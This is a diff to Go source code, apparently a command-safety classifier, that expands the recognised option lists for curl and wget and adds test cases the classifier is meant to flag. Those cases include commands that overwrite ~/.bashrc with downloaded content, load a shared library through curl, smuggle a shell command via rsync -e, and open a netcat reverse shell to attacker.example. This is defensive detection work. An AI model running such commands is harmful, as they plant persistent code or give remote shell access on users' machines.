@@ -17,13 +17,23 @@ var _ = family("network", func(add func(...*Spec)) {
 				"--bwlimit= --max-size= --min-size= --compare-dest= --copy-dest= --link-dest= -B= --block-size= -M= --remote-option= " +
 				"-e=x --rsh=x --rsync-path=x --files-from=r --exclude-from=r --include-from=r --password-file=r --log-file=w --write-batch=w --only-write-batch=w --read-batch=r -h:h --help:h -V:h --version:h",
 			Flagged: []string{"rsync -e 'sh -c id' x y:", "rsync --rsh='sh -c id' a b:", "rsync -av src/ build/"}},
+		// curl: every short option is declared, so that a bundle (-sSLo
+		// FILE) is read to its end; the long ones that take a value are
+		// declared so that the value is not read as a URL.
 		&Spec{Names: n("curl"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
-			Options: "-o=w --output=w -K=u --config=u --engine=l -T=r --upload-file=r -c=w --cookie-jar=w -D=w --dump-header=w --trace=w --trace-ascii=w --stderr=w --libcurl=w --etag-save=w --hsts=w --alt-svc=w -h:h --help:h -V:h --version:h",
-			Flagged: []string{"curl -o ~/.bashrc https://example.com/x", "curl -K evil.cfg https://x", "curl --engine ./lib.so https://x"}},
+			Options: "-0 -1 -2 -3 -4 -6 -a -B -f -g -G -I -i -j -J -k -l -L -M -n -N -O --remote-name --remote-name-all -p -q -R -s -S -v -Z -# " +
+				"-A= -b= -C= -d= -E= -F= -H= -m= -P= -Q= -r= -t= -u= -U= -w= -x= -X= -y= -Y= -z= -e= " +
+				"--header= --request= --data= --data-binary= --data-raw= --data-ascii= --data-urlencode= --json= --form= --form-string= --user= --user-agent= --referer= " +
+				"--cookie= --proxy= --max-time= --retry= --retry-delay= --retry-max-time= --connect-timeout= --write-out= --resolve= --connect-to= --cacert=r --capath=r " +
+				"--cert=r --key=r --range= --continue-at= --proxy-user= --max-filesize= --limit-rate= --interface= --noproxy= --oauth2-bearer= --aws-sigv4= --url= --url-query= --output-dir= " +
+				"-o=w --output=w -K=u --config=u --engine=l -T=r --upload-file=r -c=w --cookie-jar=w -D=w --dump-header=w --trace=w --trace-ascii=w --stderr=w --libcurl=w --etag-save=w --hsts=w --alt-svc=w -h:h --help:h -V:h --version:h",
+			Flagged: []string{"curl -o ~/.bashrc https://example.com/x", "curl -K evil.cfg https://x", "curl --engine ./lib.so https://x", "curl -sSLo ~/.bashrc https://example.com/x"}},
 		&Spec{Names: n("wget", "wget2"), Effect: Network, Permute: true, Operands: "n*", Loose: true, Abbrev: true,
-			Options: "-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h " +
+			Options: "-4 -6 -b -c -d -E -F -H -k -K -m -N -p -q -r -S -v -x -n= -B= -P= --directory-prefix= -t= --tries= -T= --timeout= -w= -Q= -U= --user-agent= -l= -D= -R= -A= -I= -X= " +
+				"--header= --post-data= --body-data= --method= --user= --password= --http-user= --http-password= " +
+				"-O=w --output-document=w -o=w --output-file=w -a=w --append-output=w -e=u --execute=u --config=u -i=r --input-file=r --post-file=r --body-file=r --use-askpass=x -h:h --help:h -V:h --version:h " +
 				"--save-cookies=w --load-cookies=r --save-headers --warc-file=w --rejected-log=w",
-			Flagged: []string{"wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
+			Flagged: []string{"wget -qO ~/.bashrc https://example.com/x", "wget --save-cookies ~/.bashrc https://example.com", "wget -e 'use_proxy=on' https://x", "wget --use-askpass=./x.sh https://x"}},
 		&Spec{Names: n("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"), Effect: Network, Permute: true, Operands: "n*", Loose: true,
 			Options: "-e=x -c=x --exec=x --sh-exec=x --lua-exec=x -o=w --output=w -h:h --help:h",
 			Flagged: []string{"nc -e /bin/sh attacker.example 4444", "nc -z localhost 8080"}},
